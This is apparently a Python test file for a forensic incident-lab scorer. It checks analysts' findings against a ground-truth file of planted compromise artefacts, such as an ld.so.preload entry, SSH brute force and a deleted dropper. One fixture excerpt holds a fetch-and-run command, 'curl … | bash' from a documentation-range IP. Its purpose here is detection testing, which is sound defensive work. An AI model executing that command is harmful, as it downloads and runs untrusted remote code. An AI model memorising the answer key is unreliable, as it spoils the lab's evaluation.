"""lab/incident/score: a finding counts only with the right place, time and provenance."""
import copy
import json
import subprocess
import sys
import tempfile
import unittest
from pathlib import Path

REPOSITORY = Path(__file__).resolve().parents[2]
SCORE = REPOSITORY / "lab/incident/score"
SHA, OTHER = "ab" * 32, "cd" * 32
EVENTS = ["6f1c7f7e-0000-4000-a000-000000000001", "6f1c7f7e-0000-4000-a000-000000000002"]

TRUTH = {
    "format": "icecore-truth/1", "instance": "i-05203422c5203422c", "t0": "2026-11-24T08:00:00Z", "clean_snapshot": "snap-1",
    "rows": [
        {"id": "H8", "what": "preload", "journal_only": False, "facts": [
            {"name": "preload", "rules": ["ld-so-preload"], "volume": "vol-1", "path": "/etc/ld.so.preload", "inode": 12, "time": "2026-11-24T04:39:00.123456789Z", "time_tolerance_s": 2}]},
        {"id": "H1", "what": "brute force", "journal_only": False, "facts": [
            {"name": "failures", "rules": ["ssh-bruteforce-success"], "volume": "vol-1", "path": "/var/log/btmp", "inode": 20, "or": [{"volume": "vol-1", "path": "/var/log/auth.log", "inode": 21}],
             "time": "2026-11-24T04:26:00Z", "time_tolerance_s": 60, "contains": ["203.0.113.66"]}]},
        {"id": "C2", "what": "launches", "journal_only": False, "facts": [{"name": "launches", "rules": ["cloud-mass-launch"], "event_ids": EVENTS, "time": "2026-11-24T04:10:00Z", "time_tolerance_s": 60}]},
        {"id": "C4", "what": "user-data", "journal_only": False, "facts": [{"name": "user-data", "rules": ["user-data-download-run"], "instance_attribute": "user-data", "contains": ["http://198.51.100.23/i.sh"]}]},
        {"id": "H14", "what": "deleted", "journal_only": False, "facts": [{"name": "dropper", "rules": ["deleted-recovered"], "volume": "vol-1", "path": "/var/tmp/.x/install.sh", "inode": 30, "sha256": SHA}]}],
    "innocent": [{"what": "sudo", "path": "/usr/bin/sudo", "volume": "vol-1"}, {"what": "the log", "path": "/var/log/auth.log", "volume": "vol-1"}]}


def location(path, inode, **more):
    return {"kind": "file", "snapshot": "snap-9", "volume": "vol-1", "partition": 1, "filesystem": "ext4", "path": path, "inode": inode, "blocks": [{"index": 3, "sha256": SHA}], **more}


def finding(number, rule, time, locations, severity="high", **more):
    return {"id": f"F-{number:03}", "rule": rule, "severity": severity, "title": rule, "sentence": "", "time": time, "locations": locations, **more}


def event(event_id):
    return {"kind": "cloudtrail", "event_id": event_id, "event_name": "RunInstances", "file": "cloudtrail/events.jsonl", "line": 1}


GOOD = [
    finding(1, "ld-so-preload", "2026-11-24T04:39:00.123456789Z", [location("/etc/ld.so.preload", 12)]),
    finding(2, "ssh-bruteforce-success", "2026-11-24T04:30:00Z", [location("/var/log/auth.log", 21, excerpt="Failed password for admin from 203.0.113.66")],
            first="2026-11-24T04:24:00Z", last="2026-11-24T04:30:00Z"),
    finding(3, "cloud-mass-launch", "2026-11-24T04:10:00Z", [event(e) for e in EVENTS]),
    finding(4, "user-data-download-run", None, [{"kind": "instance", "instance": "i-05203422c5203422c", "attribute": "user-data", "file": "instances/i-05203422c5203422c/user-data",
                                                 "sha256": SHA, "excerpt": "curl -fsSL http://198.51.100.23/i.sh | bash"}]),
    finding(5, "deleted-recovered", None, [location("/var/tmp/.x/install.sh", 30, sha256=SHA)]),
]


class ScoreTest(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.TemporaryDirectory()
        self.addCleanup(self.folder.cleanup)
        self.findings = copy.deepcopy(GOOD)
        self.clean = []

    def score(self, *flags, snapshots=True):
        case = Path(self.folder.name) / "case"
        (case / "analysis").mkdir(parents=True, exist_ok=True)
        if snapshots:
            (case / "snapshots/snap-9").mkdir(parents=True, exist_ok=True)
        write = lambda path, found: path.write_text(json.dumps({"format": "icecore-findings/1", "case": "", "target": "", "findings": found}))
        write(case / "analysis/findings.json", self.findings)
        write(case / "clean.json", self.clean)
        (case / "truth.json").write_text(json.dumps(TRUTH))
        done = subprocess.run([sys.executable, SCORE, case, "--truth", case / "truth.json", "--clean", case / "clean.json", "--verbose", *flags], capture_output=True, text=True)
        return done.returncode, done.stdout.splitlines()

    def assert_lost(self, row, why):
        code, lines = self.score()
        self.assertEqual(code, 1)
        self.assertEqual(lines[-1], "recall 4/5, false alarms 0")
        self.assertTrue(any(line.startswith(row) and "MISSED" in line for line in lines), lines)
        self.assertTrue(any(why in line for line in lines), lines)

    def test_everything_right(self):
        code, lines = self.score()
        self.assertEqual((code, lines[-1]), (0, "recall 5/5, false alarms 0"))

    def test_wrong_inode_does_not_count(self):
        self.findings[0]["locations"][0]["inode"] = 13
        self.assert_lost("H8", "inode 13 instead of 12")

    def test_wrong_path_does_not_count(self):
        self.findings[0]["locations"][0]["path"] = "/etc/ld.so.preload.d"
        self.assert_lost("H8", "no location at /etc/ld.so.preload")

    def test_wrong_volume_does_not_count(self):
        self.findings[0]["locations"][0]["volume"] = "vol-2"
        self.assert_lost("H8", "volume vol-2 instead of vol-1")

    def test_wrong_time_does_not_count(self):
        self.findings[0]["time"] = "2026-11-24T04:39:03.2Z"
        self.assert_lost("H8", "does not cover")

    def test_other_rule_does_not_count(self):
        self.findings[0]["rule"] = "cryptominer"
        self.assert_lost("H8", "no finding of ld-so-preload")

    def test_no_blocks_does_not_count(self):
        self.findings[0]["locations"][0]["blocks"] = []
        self.assert_lost("H8", "no blocks with their SHA-256")

    def test_no_snapshot_does_not_count(self):
        del self.findings[0]["locations"][0]["snapshot"]
        self.assert_lost("H8", "no snapshot named")

    def test_image_file_has_no_blocks_to_name(self):
        for f in self.findings:
            for place in f["locations"]:
                for member in ("snapshot", "volume", "blocks"):
                    place.pop(member, None)
        code, lines = self.score(snapshots=False)
        self.assertEqual((code, lines[-1]), (0, "recall 5/5, false alarms 0"))

    def test_right_places_in_two_findings_do_not_add_up(self):
        self.findings[0]["locations"] = [location("/etc/ld.so.preload", 99), location("/etc/other", 12)]
        self.assert_lost("H8", "inode 99 instead of 12")

    def test_missing_event_does_not_count(self):
        self.findings[2]["locations"].pop()
        self.assert_lost("C2", "1 of 2 events are not named")

    def test_wrong_content_does_not_count(self):
        self.findings[4]["locations"][0]["sha256"] = OTHER
        self.assert_lost("H14", "content's SHA-256")

    def test_missing_words_do_not_count(self):
        self.findings[1]["locations"][0]["excerpt"] = "Failed password"
        self.assert_lost("H1", "'203.0.113.66'")

    def test_attribute_without_checksum_does_not_count(self):
        del self.findings[3]["locations"][0]["sha256"]
        self.assert_lost("C4", "without its file and SHA-256")

    def test_false_alarms_are_medium_and_more_on_the_clean_twin(self):
        self.clean = [finding(1, "a", None, [location("/x", 1)], "low"), finding(2, "b", None, [location("/usr/bin/sudo", 2)], "medium"), finding(3, "c", None, [], "critical")]
        code, lines = self.score()
        self.assertEqual((code, lines[-1]), (1, "recall 5/5, false alarms 2"))

    def test_innocent_paths_are_listed_and_guilty_rules_on_them_are_not(self):
        self.findings.append(finding(6, "setuid-unpackaged", None, [location("/usr/bin/sudo", 2)], "low"))
        code, lines = self.score()
        self.assertEqual([l for l in lines if l.startswith("innocent:")], ["innocent: F-006 setuid-unpackaged (low) on /usr/bin/sudo: sudo"])
        self.assertEqual(code, 0)

    def test_rows_restrict_the_exit_code_only(self):
        del self.findings[0]
        code, lines = self.score("--rows", "C2,H1")
        self.assertEqual((code, lines[-1]), (0, "recall 4/5, false alarms 0"))
        self.assertEqual(self.score("--rows", "C2,H8")[0], 1)
        self.assertEqual(self.score("--rows", "Z9")[0], 2)

    def test_not_a_findings_file(self):
        done = subprocess.run([sys.executable, SCORE, "/dev/null", "--truth", "/dev/null"], capture_output=True, text=True)
        self.assertEqual(done.returncode, 2)
        self.assertIn("/dev/null", done.stderr)


if __name__ == "__main__":
    unittest.main()
